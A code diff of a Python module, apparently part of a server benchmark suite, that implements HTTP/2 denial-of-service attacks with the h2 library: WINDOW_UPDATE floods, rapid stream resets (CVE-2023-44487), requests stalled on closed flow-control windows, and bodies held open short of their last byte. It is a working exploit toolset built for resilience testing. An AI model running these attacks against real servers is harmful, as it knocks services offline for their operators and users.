@@ -1,6 +1,6 @@
-"""One HTTP/2 connection with prior knowledge that does what the protocol allows, but far too often.
+"""Attacks over one HTTP/2 connection with prior knowledge, by frames that are valid, but far too many.
 
-Where the server closes the connection, a new one goes on until the time is over.
+If the server closes the connection, a new one continues until the time is over.
 """
 
 import select
@@ -16,63 +16,63 @@ from h2.connection import H2Connection
 from h2.exceptions import ProtocolError
 from h2.settings import SettingCodes
 
-from scripts.benchmarks.attacks.aim import HOST, Aim, Clock, Outcome, Run
-from scripts.benchmarks.attacks.protocols import Hostile
+from scripts.benchmarks.attacks.aim import HOST, AttackTarget, Outcome, Run, Timer
+from scripts.benchmarks.attacks.protocols import HostileRequest
 
 STREAMS: Final = 900
-FRAMES: Final = 5000  # in one write
-RESETS: Final = 500  # in one write; each needs two frames of its own
+FRAMES: Final = 5000  # per write
+RESETS: Final = 500  # per write; each takes two frames
 BODY_STREAMS: Final = 64
 PIECE: Final = 65536
-FRAME: Final = 16384  # bytes: the largest DATA frame that a server must take
+FRAME: Final = 16384  # bytes; the largest DATA frame that a server must accept
 PAUSE_SECONDS: Final = 0.01
 POLL_SECONDS: Final = 0.1
 
-Script = Callable[[Aim, H2Connection], Iterator[bytes]]  # what to send, write by write
+Script = Callable[[AttackTarget, H2Connection], Iterator[bytes]]  # yields the data of each write
 
 
-def opened(aim: Aim, connection: H2Connection, count: int) -> list[int]:
-    """Open streams that announce a body; return their numbers."""
+def open_streams(target: AttackTarget, connection: H2Connection, count: int) -> list[int]:
+    """Open streams for requests with a body; return their numbers."""
     streams = [2 * index + 1 for index in range(count)]
     for stream in streams:
-        connection.send_headers(stream, _headers(aim))
+        connection.send_headers(stream, _headers(target))
     return streams
 
 
-def window_updates(aim: Aim, connection: H2Connection) -> Iterator[bytes]:
-    """Widen the connection's window by one byte, again and again, while many streams are open (RFC 9113, 6.9)."""
-    opened(aim, connection, STREAMS)
+def window_updates(target: AttackTarget, connection: H2Connection) -> Iterator[bytes]:
+    """Increase the connection's window by one byte repeatedly, while many streams are open (RFC 9113, 6.9)."""
+    open_streams(target, connection, STREAMS)
     yield connection.data_to_send()
     connection.increment_flow_control_window(1)
-    many = connection.data_to_send() * FRAMES  # h2 would need longer to make each than a server to read it
+    many = connection.data_to_send() * FRAMES  # repeated, because h2 creates a frame more slowly than a server reads it
     while True:
         yield many
 
 
-def rapid_resets(aim: Aim, connection: H2Connection) -> Iterator[bytes]:
-    """Open a stream and reset it at once, over and over (CVE-2023-44487)."""
+def rapid_resets(target: AttackTarget, connection: H2Connection) -> Iterator[bytes]:
+    """Open a stream and reset it immediately, repeatedly (CVE-2023-44487)."""
     stream = 1
     while True:
         for _ in range(RESETS):
-            connection.send_headers(stream, _headers(aim), end_stream=True)
+            connection.send_headers(stream, _headers(target), end_stream=True)
             connection.reset_stream(stream)
             stream += 2
         yield connection.data_to_send()
 
 
-def unread(aim: Aim, connection: H2Connection) -> Iterator[bytes]:
+def unread(target: AttackTarget, connection: H2Connection) -> Iterator[bytes]:
     """Send requests on many streams whose flow-control windows stay closed, so that no answer can be sent."""
     connection.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
     for index in range(STREAMS):
-        connection.send_headers(2 * index + 1, _headers(aim, method="GET", path="/openapi.json"), end_stream=True)
+        connection.send_headers(2 * index + 1, _headers(target, method="GET", path="/openapi.json"), end_stream=True)
     while True:
         yield connection.data_to_send()
         time.sleep(PAUSE_SECONDS)
 
 
-def bodies(aim: Aim, connection: H2Connection) -> Iterator[bytes]:
-    """Send many bodies of the largest size at once, each without its last byte."""
-    left = dict.fromkeys(opened(aim, connection, BODY_STREAMS), aim.limit - 1)
+def bodies(target: AttackTarget, connection: H2Connection) -> Iterator[bytes]:
+    """Send many bodies of the largest size in parallel, each without its last byte."""
+    left = dict.fromkeys(open_streams(target, connection, BODY_STREAMS), target.limit - 1)
     while True:
         for stream in left:
             with suppress(ProtocolError):  # the server has reset it
@@ -83,12 +83,12 @@ def bodies(aim: Aim, connection: H2Connection) -> Iterator[bytes]:
         yield connection.data_to_send()
 
 
-def whole(hostile: Hostile) -> Script:
-    """Send the body of one request as fast as the windows allow, and wait until it is answered."""
+def whole_body(hostile: HostileRequest) -> Script:
+    """Return a script that sends one request as fast as the windows allow, and waits for its answer."""
 
-    def script(aim: Aim, connection: H2Connection) -> Iterator[bytes]:
-        left = memoryview(hostile.body(aim.limit))
-        connection.send_headers(1, _headers(aim, path=aim.at(hostile.path), kind=hostile.content_type))
+    def script(target: AttackTarget, connection: H2Connection) -> Iterator[bytes]:
+        left = memoryview(hostile.body(target.limit))
+        connection.send_headers(1, _headers(target, path=target.at(hostile.path), kind=hostile.content_type))
         while connection.open_outbound_streams:
             while left and (size := min(FRAME, len(left), connection.local_flow_control_window(1))) > 0:
                 connection.send_data(1, left[:size], end_stream=size == len(left))
@@ -99,15 +99,15 @@ def whole(hostile: Hostile) -> Script:
     return script
 
 
-def over_http2(script: Script) -> Callable[[Aim], Run]:
-    """The attack that follows a script until its time is over."""
+def over_http2(script: Script) -> Callable[[AttackTarget], Run]:
+    """Return an attack that repeats a script until its time is over."""
 
-    def prepare(aim: Aim) -> Run:
+    def prepare(target: AttackTarget) -> Run:
         def run() -> Outcome:
-            clock = Clock(aim.seconds)
+            timer = Timer(target.seconds)
             outcome: Outcome = Counter()
-            while clock.runs():
-                outcome[once(aim, script, clock)] += 1
+            while timer.is_running():
+                outcome[run_once(target, script, timer)] += 1
                 time.sleep(PAUSE_SECONDS)
             return outcome
 
@@ -116,26 +116,26 @@ def over_http2(script: Script) -> Callable[[Aim], Run]:
     return prepare
 
 
-def once(aim: Aim, script: Script, clock: Clock) -> str:
-    """Follow a script over one connection; return how it ended."""
+def run_once(target: AttackTarget, script: Script, timer: Timer) -> str:
+    """Run a script over one connection; return how it ended: open, closed or done."""
     connection = H2Connection(H2Configuration(client_side=True, validate_outbound_headers=False))
     connection.initiate_connection()
     try:
-        with aim.connect() as link:
+        with target.connect() as link:
             link.settimeout(0)
-            for data in script(aim, connection):
-                deliver(link, connection, data, clock)
-                if not clock.runs():
+            for data in script(target, connection):
+                deliver(link, connection, data, timer)
+                if not timer.is_running():
                     return "open"
-    except (ProtocolError, OSError):  # after GOAWAY, h2 refuses to send
+    except (ProtocolError, OSError):  # after GOAWAY, h2 raises an error on sending
         return "closed"
     return "done"
 
 
-def deliver(link: socket.socket, connection: H2Connection, data: bytes, clock: Clock) -> None:
-    """Send all of it, and read what the server sends meanwhile. Raises OSError where it closes the connection."""
+def deliver(link: socket.socket, connection: H2Connection, data: bytes, timer: Timer) -> None:
+    """Send all data, and read what the server sends meanwhile. Raises OSError if it closes the connection."""
     left = memoryview(data)
-    while clock.runs():
+    while timer.is_running():
         readable, writable, _ = select.select([link], [link] if left else [], [], 0 if not left else POLL_SECONDS)
         if readable:
             received = link.recv(PIECE)
@@ -149,13 +149,13 @@ def deliver(link: socket.socket, connection: H2Connection, data: bytes, clock: C
 
 
 def _headers(
-    aim: Aim, *, method: str = "POST", path: str | None = None, kind: str = "application/json"
+    target: AttackTarget, *, method: str = "POST", path: str | None = None, kind: str = "application/json"
 ) -> list[tuple[str, str]]:
     return [
         (":method", method),
         (":scheme", "http"),
-        (":authority", f"{HOST}:{aim.port}"),
-        (":path", path or aim.path),
+        (":authority", f"{HOST}:{target.port}"),
+        (":path", path or target.path),
         ("content-type", kind),
         ("te", "trailers"),
     ]
